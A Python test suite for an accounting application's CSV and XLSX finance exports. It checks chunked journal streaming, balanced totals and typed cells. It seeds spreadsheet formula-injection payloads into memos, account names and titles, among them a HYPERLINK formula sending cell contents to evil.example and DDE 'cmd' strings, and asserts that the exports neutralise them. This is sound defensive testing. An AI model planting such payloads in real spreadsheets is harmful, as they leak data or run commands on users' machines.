"""Finance exports from a real database of each kind: the journal streamed as CSV in bounded
chunks and parsed back, hostile text neutralised, and statements, the trial balance and
activity as CSV and typed XLSX."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from bounty.exports import statements as exports
from bounty.ledger import EntryDraft, Money, TransactionDraft
from bounty.models import LedgerLine, Organisation
from bounty.models.engine import is_postgres
from bounty.services import activity, journal, journal_export, statements
from bounty.services.actors import Actor
from tests import workflow_factories as wf
from tests.service.test_statements import approve_three, merged, org_person, receipt

FINANCE = Actor(label="person:fiona", roles=frozenset({"contributor", "finance"}))
YEAR = 2026
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\t=1+1", "\r=2+2", "-2+3", "=1+1"]
TRANSACTIONS = 1000  # 3,000 lines: 500 of two EUR lines, 500 of two EUR and two JPY lines
CHUNK = 400


def ledger_of_many_lines(session) -> int:
    """TRANSACTIONS balanced transactions over a year (hostile memos among them); the line count."""
    for code, kind, currency in (("ops:cash", "asset", "EUR"), ("ops:fund", "equity", "EUR"),
                                 ("ops:yen", "asset", "JPY"), ("ops:yen-fund", "equity", "JPY")):
        journal.ensure_account(session, code, code, kind, currency)
    for number in range(TRANSACTIONS):
        euros = Money(1 + number * 37 % 100_000, "EUR")
        entries = [EntryDraft("ops:cash", euros), EntryDraft("ops:fund", -euros)]
        if number % 2:
            yen = Money(number * 13 + 1, "JPY")
            entries += [EntryDraft("ops:yen", -yen), EntryDraft("ops:yen-fund", yen)]
        journal.post(session, TransactionDraft(
            kind="test", memo=HOSTILE[number % len(HOSTILE)] if number % 10 == 0 else f"payment {number}",
            idempotency_key=f"ops:{number}", entries=entries,
            effective_on=date(YEAR, 1 + number * 12 // TRANSACTIONS, 1 + number % 28)))
    session.commit()
    return int(session.execute(select(func.count(LedgerLine.id))).scalar_one())


def parse(chunks: Iterable[bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8"), newline="")))


class Watched:
    """Chunks passed through, counting the rows taken from the service so far."""

    def __init__(self, chunks: Iterable[Sequence[object]]) -> None:
        self.chunks = chunks
        self.taken = 0
        self.sizes: list[int] = []

    def __iter__(self) -> Iterator[Sequence[object]]:
        for chunk in self.chunks:
            self.taken += len(chunk)
            self.sizes.append(len(chunk))
            yield chunk


def test_the_journal_streams_in_bounded_chunks_and_parses_back_balanced(session):
    lines = ledger_of_many_lines(session)
    assert lines == 3000
    watched = Watched(journal_export.journal_chunks(session, FINANCE, chunk_size=CHUNK))
    stream = exports.journal_csv(watched)
    header = next(stream)
    assert header == (",".join(exports.JOURNAL_HEADER) + "\r\n").encode()
    first = next(stream)
    # One chunk read from the database and written before the rest is even fetched.
    assert watched.taken == CHUNK and first.count(b"\r\n") == CHUNK
    if is_postgres(session):
        # Read through a server-side cursor, still open mid-stream.
        assert session.connection().exec_driver_sql("SELECT count(*) FROM pg_cursors").scalar_one() == 1
    blocks = [header, first, *stream]
    assert watched.sizes == [CHUNK] * (lines // CHUNK) + [lines % CHUNK]
    assert max(len(block) for block in blocks) < CHUNK * 200  # bounded by one chunk of rows

    rows = parse(blocks)
    assert len(rows) == lines
    totals: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    for row in rows:
        totals[row["transaction_id"], row["currency"]] += Decimal(row["amount"])
    assert len({key for key, _ in totals}) == TRANSACTIONS
    assert set(totals.values()) == {Decimal(0)}
    # Amounts with the currency's digits; posting order; ISO dates.
    assert all(len(r["amount"].rpartition(".")[2]) == 2 for r in rows if r["currency"] == "EUR")
    assert all("." not in r["amount"] for r in rows if r["currency"] == "JPY")
    ids = [int(r["transaction_id"]) for r in rows]
    assert ids == sorted(ids)
    assert {date.fromisoformat(r["date"]).year for r in rows} == {YEAR}
    first_row = rows[0]
    assert (first_row["kind"], first_row["idempotency_key"], first_row["account"], first_row["amount"]) == (
        "test", "ops:0", "ops:cash", "0.01")


def test_hostile_memos_are_neutralised_and_negative_amounts_stay_numbers(session):
    ledger_of_many_lines(session)
    rows = parse(exports.journal_csv(journal_export.journal_chunks(session, FINANCE)))
    memos = {row["memo"] for row in rows}
    for text in HOSTILE:
        assert "'" + text in memos and text not in memos
    negatives = [row["amount"] for row in rows if row["amount"].startswith("-")]
    assert len(negatives) == 1500 and not any(a.startswith("'") for a in negatives)
    assert all(Decimal(a) < 0 for a in negatives)


def test_the_journal_between_two_dates(session):
    ledger_of_many_lines(session)
    spring = parse(exports.journal_csv(journal_export.journal_chunks(
        session, FINANCE, date(YEAR, 3, 1), date(YEAR, 5, 31), chunk_size=50)))
    assert spring and {date.fromisoformat(r["date"]).month for r in spring} == {3, 4, 5}
    everything = parse(exports.journal_csv(journal_export.journal_chunks(session, FINANCE)))
    assert len(spring) == sum(1 for r in everything if "03" <= r["date"][5:7] <= "05")
    assert list(journal_export.journal_rows(session, FINANCE, date(YEAR + 1, 1, 1))) == []


def statement_fixture(session) -> statements.JurisdictionStatement:
    wf.reference(session)
    # A contributor and a bounty title an attacker chose: both reach the statement's memo.
    hostile = wf.contributor(session, "mallory", "UK")
    wf.approved_bounty(session, hostile, urls=[f"{wf.GITLAB}/cloudstack/cloudstack/-/merge_requests/300"],
                       title='=HYPERLINK("http://evil.example","Invoice")', amount="1500", currency="GBP")
    approve_three(session)
    receipt(session, "EU", "2500000", date(YEAR, 2, 1), "receipt:eu:1", memo=HOSTILE[0])
    return statements.jurisdiction_statement(session, FINANCE, "EU", statements.period(YEAR))


def test_a_statement_as_csv_has_every_row_and_adds_up(session):
    statement = statement_fixture(session)
    rows = parse(exports.statement_csv(statement))
    sections = defaultdict(list)
    for row in rows:
        assert (row["jurisdiction"], row["period_start"], row["period_end"]) == (
            "EU", "2026-01-01", "2026-12-31")
        sections[row["section"]].append(row)
    assert len(sections["owed"]) == len(sections["spent"]) == 3
    assert len(sections["borne"]) == 4
    [paid] = sections["paid_in"]
    assert (paid["date"], paid["reference"], paid["amount"]) == ("2026-02-01", "receipt:eu:1", "2500000.00")
    assert paid["description"] == "'" + HOSTILE[0]  # neutralised
    owed = sum(Decimal(r["amount"]) for r in sections["owed"])
    totals = {r["description"]: Decimal(r["amount"]) for r in sections["total"]}
    assert owed == totals["owed"] == Decimal("5375000.00")
    borne = sum(Decimal(r["amount"]) for r in sections["borne"])
    assert borne == totals["borne"] == statement.borne.to_decimal()
    assert totals["balance"] == totals["owed to date"] - totals["borne to date"]
    for row in sections["borne"]:
        # EU carries half of every payout, to the cent (largest remainder).
        assert abs(Decimal(row["of_total"]) / 2 - Decimal(row["amount"])) <= Decimal("0.01")
        assert row["payable_currency"] in {"EUR", "GBP", "CAD"} and Decimal(row["payable_amount"]) > 0
        assert row["reference"].startswith("approve:claim:")
    assert totals["paid in"] == Decimal("2500000.00")
    assert totals["outstanding"] == totals["owed to date"] - totals["paid in to date"]
    assert totals["outstanding"] == Decimal("2875000.00")
    assert any("=HYPERLINK" in r["description"] for r in sections["borne"])


def test_a_statement_as_xlsx_has_typed_cells(session, tmp_path):
    statement = statement_fixture(session)
    target = tmp_path / "eu.xlsx"
    exports.statement_xlsx(statement, target)
    book = load_workbook(target)
    assert book.sheetnames == ["Summary", "Pools", "Payouts", "Paid in"]
    summary = {row[0].value: row[1] for row in book["Summary"].iter_rows(min_row=2)}
    assert summary["period start"].is_date and summary["period start"].value == datetime(YEAR, 1, 1)
    assert summary["owed"].data_type == "n" and summary["owed"].number_format == "#,##0.00"
    assert Decimal(str(summary["owed"].value)) == Decimal("5375000")
    payouts = list(book["Payouts"].iter_rows(min_row=2))
    assert len(payouts) == 4
    for row in payouts:
        day, txn, _ref, kind, pool, memo, total, part, payable, payable_cur, payee = row
        assert day.is_date and day.value.date() == statement.payouts[0].effective_on
        assert txn.data_type == "n" and kind.value == "payable" and pool.value == "bounty_pool"
        assert memo.data_type == "s"
        for number in (total, part, payable):
            assert number.data_type == "n" and number.number_format == "#,##0.00"
        assert payable_cur.value in {"EUR", "GBP", "CAD"} and payee.value.startswith("payable:person:")
    expected = {p.transaction_id: (p.total, p.part, p.payable) for p in statement.payouts}
    for row in payouts:
        total, part, payable = expected[row[1].value]
        assert Decimal(str(row[6].value)).quantize(Decimal("0.01")) == total.to_decimal()
        assert Decimal(str(row[7].value)).quantize(Decimal("0.01")) == part.to_decimal()
        assert Decimal(str(row[8].value)).quantize(Decimal("0.01")) == payable.to_decimal()
    # The hostile title is a string cell, kept as written, and no cell anywhere is a formula.
    assert any(str(row[5].value).startswith("bounty") and "=HYPERLINK" in row[5].value for row in payouts)
    assert all(c.data_type != "f" for sheet in book for r in sheet.iter_rows() for c in r)
    [paid] = book["Paid in"].iter_rows(min_row=2)
    assert paid[0].value == datetime(YEAR, 2, 1) and paid[3].value == HOSTILE[0] and paid[3].data_type == "s"
    assert paid[4].value == 2500000 and paid[4].data_type == "n"
    pools = list(book["Pools"].iter_rows(min_row=2, values_only=True))
    assert [(year, kind) for year, kind, *_ in pools] == [
        (YEAR, "development_fund"), (YEAR, "bounty_pool"), (YEAR, "conference_sponsorship")]
    assert {round(Decimal(str(share)), 8) for _, _, _, share, *_ in pools} == {Decimal("0.5")}
    assert book["Pools"]["D2"].number_format == "0.00####%"


def test_hostile_text_in_an_xlsx_is_text_never_a_formula(session, tmp_path):
    ledger_of_many_lines(session)
    journal.ensure_account(session, "=cmd|' /C calc'!A0", "@SUM(A1)\x07\x08", "asset", "EUR")
    journal.ensure_account(session, "+evil", "-2+3", "equity", "EUR")
    journal.post(session, TransactionDraft(kind="test", memo="m", idempotency_key="evil", entries=[
        EntryDraft("=cmd|' /C calc'!A0", Money(5, "EUR")), EntryDraft("+evil", Money(-5, "EUR"))]))
    session.commit()
    rows = statements.trial_balance(session, FINANCE)
    target = tmp_path / "tb.xlsx"
    exports.trial_balance_xlsx(rows, target)
    book = load_workbook(target)
    sheet = book["Trial balance"]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    evil = cells["=cmd|' /C calc'!A0"]
    assert evil[0].data_type == "s" and evil[1].value == "@SUM(A1)\ufffd\ufffd"
    assert evil[3].value == pytest.approx(0.05) and evil[3].data_type == "n"
    assert cells["+evil"][1].value == "-2+3" and cells["+evil"][4].value == pytest.approx(0.05)
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    totals = {row[0]: row[1:] for row in book["Totals"].iter_rows(min_row=2, values_only=True)}
    assert set(totals) == {"EUR", "JPY"}
    assert all(debit == credit for debit, credit in totals.values())
    assert book["Totals"]["B3"].number_format == "#,##0"  # JPY has no minor digits
    csv_rows = parse(exports.trial_balance_csv(rows))
    by_account = {row["account"]: row for row in csv_rows}
    assert by_account["'=cmd|' /C calc'!A0"]["name"] == "'@SUM(A1)\x07\x08"
    assert by_account["'+evil"]["credit"] == "0.05" and by_account["'+evil"]["debit"] == "0.00"
    for currency in ("EUR", "JPY"):
        mine = [r for r in csv_rows if r["currency"] == currency]
        assert sum(Decimal(r["debit"]) for r in mine) == sum(Decimal(r["credit"]) for r in mine)


def test_activity_as_csv_and_xlsx(session, tmp_path):
    wf.reference(session)
    acme = Organisation(name="=Acme+Cloud", jurisdiction_code="EU", kind="supplier")
    session.add(acme)
    session.commit()
    merged(session, org_person(session, "ann", acme), 1)
    span = statements.period(YEAR)
    rows = activity.organisation_activity(session, FINANCE, span)
    [parsed] = parse(exports.activity_csv(span, rows))
    assert parsed == {"period_start": "2026-01-01", "period_end": "2026-12-31",
                      "organisation": "'=Acme+Cloud", "jurisdiction": "EU", "kind": "supplier",
                      "active_contributors": "1", "merged_merge_requests": "1", "approved_hours": "0.00"}
    target = tmp_path / "activity.xlsx"
    exports.activity_xlsx(span, rows, target)
    [row] = load_workbook(target)["Activity"].iter_rows(min_row=2)
    assert row[0].is_date and row[2].value == "=Acme+Cloud" and row[2].data_type == "s"
    assert (row[5].value, row[6].value, row[7].value) == (1, 1, 0)
    assert row[7].number_format == "0.00"


def test_format_of_file_names():
    assert exports.format_of("statement.CSV") == "csv"
    assert exports.format_of("a.b.xlsx") == "xlsx"
    for name in ("statement", "statement.pdf", "statement.xls"):
        with pytest.raises(exports.UnsupportedFormat):
            exports.format_of(name)
